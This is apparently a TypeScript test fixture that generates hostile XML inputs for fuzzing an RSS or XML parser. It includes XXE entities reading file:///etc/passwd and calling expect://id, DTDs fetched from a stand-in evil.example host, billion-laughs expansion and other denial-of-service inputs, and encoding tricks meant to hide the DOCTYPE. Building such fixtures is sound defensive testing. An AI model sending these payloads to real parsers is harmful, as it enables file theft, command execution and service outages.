/** XML that makes a reader fetch, repeat or remember more than it was given. */

const SYSTEMS = [
  'file:///etc/passwd',
  'file:///dev/random',
  'http://127.0.0.1:9/x.dtd',
  'https://evil.example/x.dtd',
  'ftp://evil.example/x',
  'jar:https://evil.example/x!/y',
  'php://filter/read=convert.base64-encode/resource=/etc/passwd',
  'expect://id',
  '\\\\evil.example\\share',
  'data:text/plain,x',
];

const TYPES: readonly ((system: string) => string)[] = [
  (system) => `<!DOCTYPE r SYSTEM "${system}">`,
  (system) => `<!DOCTYPE r PUBLIC "-//x//y" "${system}">`,
  (system) => `<!DOCTYPE r [<!ENTITY x SYSTEM "${system}">]>`,
  (system) => `<!DOCTYPE r [<!ENTITY % p SYSTEM "${system}"> %p;]>`,
  (system) => `<!doctype r [<!ENTITY x PUBLIC "a" '${system}' NDATA b><!NOTATION b SYSTEM "${system}">]>`,
  (system) => `<?xml-stylesheet type="text/xsl" href="${system}"?>`,
];

const lol = (count: number): string =>
  Array.from({ length: count }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('');

const DECLARED = [
  `<!DOCTYPE r [<!ENTITY e0 "ha">${lol(9)}]>`,
  `<!DOCTYPE r [<!ENTITY x "${'a'.repeat(50_000)}">]>`,
  '<!DOCTYPE r [<!ENTITY x "&y;"><!ENTITY y "&x;">]>',
  '<!DOCTYPE r [<!ENTITY % a "%b;"><!ENTITY % b "%a;"> %a;]>',
  `<!DOCTYPE r [${'<!ATTLIST r a CDATA "x">'.repeat(2_000)}]>`,
  `<!DOCTYPE r [${'<!ENTITY a "b">'.repeat(3_000)}]>`,
  '<!DOCTYPE r [<!ATTLIST r x CDATA "&e9;">]>',
  '<!DOCTYPE r [<!ELEMENT r ((a?)+)+>]>',
];

const body = (text: string): string =>
  `<rss version="2.0"><channel><title>${text}</title><item><guid>1</guid><title>${text}</title><description>${text}</description></item></channel></rss>`;
const REFERENCES = ['&x;', '&e9;', '&#0;&#xd800;&#x110000;', '&x;'.repeat(5_000)];

const BODIES = [
  '<rss><channel><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></channel></rss>',
  `${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}`,
  '<a>'.repeat(100_000),
  `<rss ${Array.from({ length: 20_000 }, (_, n) => `a${n}="b"`).join(' ')}/>`,
  `<rss ${Array.from({ length: 5_000 }, (_, n) => `xmlns:n${n}="urn:${n}"`).join(' ')}/>`,
  `<rss ${'a="b" '.repeat(20_000)}/>`,
  `<${'a'.repeat(200_000)}/>`,
  `<rss a="${'&amp;'.repeat(40_000)}"/>`,
  body(`<![CDATA[${']]'.repeat(100_000)}]]>`),
  body(`<!--${'-'.repeat(200_000)}-->`),
  body(`<?x ${'?'.repeat(200_000)}?>`),
  body('<![CDATA[never ends'),
  body('<!-- never ends'),
  `<!DOCTYPE r [${'['.repeat(100_000)}`,
  `<!DOCTYPE r [${'<!--'.repeat(50_000)}`,
  `<!DOCTYPE r "${"'".repeat(100_000)}`,
  '<'.repeat(200_000),
  '&'.repeat(200_000),
  '</'.repeat(100_000),
  '<a '.repeat(70_000),
  "<a b='".repeat(40_000),
  `<rss><channel>${'<item/>'.repeat(30_000)}</channel></rss>`,
  `<rss><channel>${'<item><title>a</title></item>'.repeat(5_000)}</channel></rss>`,
  `<rss xml:base="${'a/'.repeat(50_000)}"><channel xml:base="${'b/'.repeat(50_000)}"/></rss>`,
  body('<b>'.repeat(30_000)),
  body('&lt;b&gt;'.repeat(20_000)),
  '<__proto__><constructor><prototype/></constructor></__proto__>',
  '<rss __proto__="a" constructor="b"/>',
];

/** The same in other bytes: what looks for a document type before it decodes finds none. */
const ENCODED: readonly ((text: string) => Buffer)[] = [
  (text) => Buffer.from(text),
  (text) => Buffer.from(`\ufeff${text}`, 'utf16le'),
  (text) => Buffer.from(`\ufeff${text}`, 'utf16le').swap16(),
  (text) => Buffer.from(`<?xml version="1.0" encoding="utf-7"?>${text.replace(/</g, '+ADw-')}`),
];

/** Each of them once, as bytes. */
export const hostileXml: readonly Buffer[] = [
  ...TYPES.flatMap((type) => SYSTEMS.map((system) => Buffer.from(type(system) + body('&x;')))),
  ...DECLARED.flatMap((declared) => REFERENCES.map((reference) => Buffer.from(declared + body(reference)))),
  ...BODIES.map((text) => Buffer.from(text)),
  ...ENCODED.flatMap((encode) =>
    [
      DECLARED[0]!,
      DECLARED[2]!,
      DECLARED[3]!,
      TYPES[2]!(SYSTEMS[0]!),
      TYPES[3]!(SYSTEMS[2]!),
      ...BODIES.slice(0, 2),
    ].map((text) => encode(text + body('&x;'))),
  ),
];
